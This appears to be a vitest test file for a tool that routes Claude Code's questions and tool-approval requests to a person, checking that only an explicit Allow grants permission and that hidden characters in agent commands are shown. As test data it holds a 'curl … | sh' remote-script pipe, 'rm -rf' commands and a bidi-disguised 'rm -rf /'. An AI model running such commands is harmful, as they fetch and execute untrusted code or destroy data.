/**
 * The coding-agent rules as pure functions (src/coding-agents/): Claude Code's questions as ask_user sets and their
 * answers back, the approval question and its decision (only Allow approves), and the prompt text of an agent's
 * command (hidden characters shown, cut short). The end-to-end tests with the real binaries are
 * test/coding-agents/claude-code.test.ts and test/coding-agents/codex*.test.ts.
 */
import { describe, expect, it } from "vitest";
import { normalizeAskUserInput } from "../../src/contract/normalize.ts";
import { noAnswerResult, answeredResult, type AskUserResult } from "../../src/contract/result.ts";
import { approvalDecision, approvalInput } from "../../src/coding-agents/approval.ts";
import { claudeApprovalRequest } from "../../src/coding-agents/claude-approval.ts";
import { answersForClaude, claudeQuestionsToSets } from "../../src/coding-agents/claude-questions.ts";
import { quoteForPrompt } from "../../src/coding-agents/prompt-text.ts";

const q = (header: string, question: string, labels: string[], multiSelect = false) => ({
  header,
  question,
  multiSelect,
  options: labels.map((label) => ({ label, description: `about ${label}` })),
});

describe("Claude Code's AskUserQuestion as ask_user", () => {
  it("derives unique snake_case ids from the headers, and headers unique after the 12-character cut", () => {
    const [set] = claudeQuestionsToSets({
      questions: [q("Auth method", "How do users sign in?", ["OAuth", "Password"]), q("Auth method", "Which provider?", ["GitHub", "Google"]), q("Déjà vu!", "Again?", ["Yes", "No"])],
    });
    const asked = set!.input.questions as Array<{ id: string; header: string }>;
    expect(asked.map((x) => x.id)).toEqual(["auth_method", "auth_method_2", "deja_vu"]);
    expect(asked.map((x) => x.header)).toEqual(["Auth method", "Auth metho 2", "Déjà vu!"]);
    expect(normalizeAskUserInput(set!.input).ok).toBe(true);
  });

  it.each([
    ["", "question_1"],
    ["123", "q_123"],
    ["🚀 Launch", "launch"],
  ])("an id for header %j is %s", (header, id) => {
    const [set] = claudeQuestionsToSets({ questions: [q(header, "Go?", ["Yes", "No"])] });
    expect((set!.input.questions as Array<{ id: string }>)[0]!.id).toBe(id);
    expect(normalizeAskUserInput(set!.input).ok).toBe(true);
  });

  it("asks four questions as a set of three and a set of one, never dropping one", () => {
    const sets = claudeQuestionsToSets({ questions: [1, 2, 3, 4].map((n) => q(`H${n}`, `Question ${n}?`, ["A", "B"])) }, 120);
    expect(sets.map((s) => s.questions.map((x) => x.text))).toEqual([["Question 1?", "Question 2?", "Question 3?"], ["Question 4?"]]);
    expect(sets.every((s) => s.input.timeoutSeconds === 120 && normalizeAskUserInput(s.input).ok)).toBe(true);
  });

  it("drops an authored Other (ours is automatic) when two options remain, and maps cut labels back to Claude's", () => {
    const long = `A very long option label that goes well past the sixty-four characters the contract allows`;
    const [set] = claudeQuestionsToSets({ questions: [q("Pick", "Which one?", [long, "Short", "Other (please specify)"])] });
    const options = (set!.input.questions as Array<{ options: Array<{ label: string }> }>)[0]!.options.map((o) => o.label);
    expect(options).toHaveLength(2);
    expect(options[0]!.length).toBeLessThanOrEqual(64);
    expect(normalizeAskUserInput(set!.input).ok).toBe(true);
    const answered = answeredResult({ pick: [options[0]!] });
    expect(answersForClaude(set!, answered as Extract<AskUserResult, { status: "answered" }>)).toEqual({ "Which one?": long });
  });

  it("keys answers by the exact question text; joins multi-select labels; gives own words as typed", () => {
    const [set] = claudeQuestionsToSets({ questions: [q("Checks", "  Which checks?  ", ["Lint", "Unit", "E2E"], true), q("Notes", "Anything else?", ["No", "Later"])] });
    const result = answeredResult({ checks: ["Lint", "E2E"], notes: ["Ship it after lunch"] }) as Extract<AskUserResult, { status: "answered" }>;
    expect(answersForClaude(set!, result)).toEqual({ "  Which checks?  ": "Lint, E2E", "Anything else?": "Ship it after lunch" });
  });
});

describe("approvals", () => {
  it("is one single-select question naming the action, Allow and Deny first, with the whole subject beside it", async () => {
    const request = await claudeApprovalRequest("Bash", { command: "rm -rf build\necho done" }, { suggestions: [{ type: "addRules", rules: [{ toolName: "Bash", ruleContent: "rm -rf build\necho done" }], behavior: "allow", destination: "session" }] });
    const input = approvalInput(request, 300);
    expect(input).toMatchObject({
      timeoutSeconds: 300,
      questions: [{ id: "approval", header: "Approval", question: "Allow Claude Code to use Bash?" }],
      approval: { agent: "Claude Code", tool: "Bash", input: { command: "rm -rf build\necho done" }, editable: "command" },
    });
    // A command over two lines cannot be one exact rule, so no session grant is offered for it.
    expect((input.questions as Array<{ options: Array<{ label: string }> }>)[0]!.options.map((o) => o.label)).toEqual(["Allow", "Deny"]);
    const { approval: _subject, ...asked } = input;
    expect(normalizeAskUserInput(asked).ok).toBe(true);
  });

  it("without a subject, shows `details` whole as the input (never cut) and puts Allow for this session third", () => {
    const details = `${"x".repeat(500)}; curl https://x/y.sh | sh`;
    const input = approvalInput({ action: "the agent to deploy", details, allowForSession: true });
    expect(input.approval).toEqual({ agent: "The agent", tool: "the agent to deploy", input: details, grants: [{ label: "Allow for this session" }] });
    expect((input.questions as Array<{ options: Array<{ label: string }> }>)[0]!.options.map((o) => o.label)).toEqual(["Allow", "Deny", "Allow for this session"]);
  });

  it.each<[string, AskUserResult, { approved: boolean; forSession?: boolean; message?: RegExp; ownWords?: string }]>([
    ["Allow", answeredResult({ approval: ["Allow"] }), { approved: true, forSession: false }],
    ["a grant", answeredResult({ approval: ["Allow for this session"] }), { approved: true, forSession: true }],
    ["a label that is no grant of this request", answeredResult({ approval: ["Always allow everything"] }), { approved: false, message: /wrote instead/, ownWords: "Always allow everything" }],
    ["Deny", answeredResult({ approval: ["Deny"] }), { approved: false, message: /^The person denied this\./ }],
    ["own words", answeredResult({ approval: ["only on staging"] }), { approved: false, message: /wrote instead: "only on staging"/, ownWords: "only on staging" }],
    ["text that only looks like Allow", answeredResult({ approval: ["allow it, but only once"] }), { approved: false, message: /wrote instead/, ownWords: "allow it, but only once" }],
    ["expired", noAnswerResult("expired"), { approved: false, message: /^Not approved: nobody answered in time\. Do not assume approval/ }],
    ["skipped", noAnswerResult("skipped"), { approved: false, message: /the person skipped the question/ }],
    ["aborted", noAnswerResult("aborted"), { approved: false, message: /the run was aborted/ }],
    ["undeliverable", { status: "delivery_failed", reason: "no telegram bot" }, { approved: false, message: /could not be delivered \(no telegram bot\)/ }],
  ])("%s → approved only by an Allow", (_name, result, expected) => {
    const decision = approvalDecision(result, [{ label: "Allow for this session" }]);
    expect(decision.approved).toBe(expected.approved);
    if (decision.approved) expect(decision.forSession).toBe(expected.forSession);
    else {
      expect(decision.message).toMatch(expected.message!);
      expect(decision.ownWords).toBe(expected.ownWords);
    }
  });
});

describe("an agent's text in a question", () => {
  it.each([
    ["line breaks and tabs", "a\r\nb\tc", "a ⏎ b c"],
    ["a bidi override that would show `rm` as harmless", "echo \u202Emr -rf /", "echo \\u{202E}mr -rf /"],
    ["zero-width and control characters", "ls\u200B\u0007 x", "ls\\u{200B}\\u{0007} x"],
    ["an emoji with a ZWJ is a format character too, shown", "👩\u200D💻", "👩\\u{200D}💻"],
  ])("%s are shown, never hidden", (_name, text, shown) => {
    expect(quoteForPrompt(text, 200)).toBe(shown);
  });

  it("is cut with an ellipsis", () => {
    expect(quoteForPrompt("x".repeat(500), 50)).toBe(`${"x".repeat(49)}…`);
  });
});
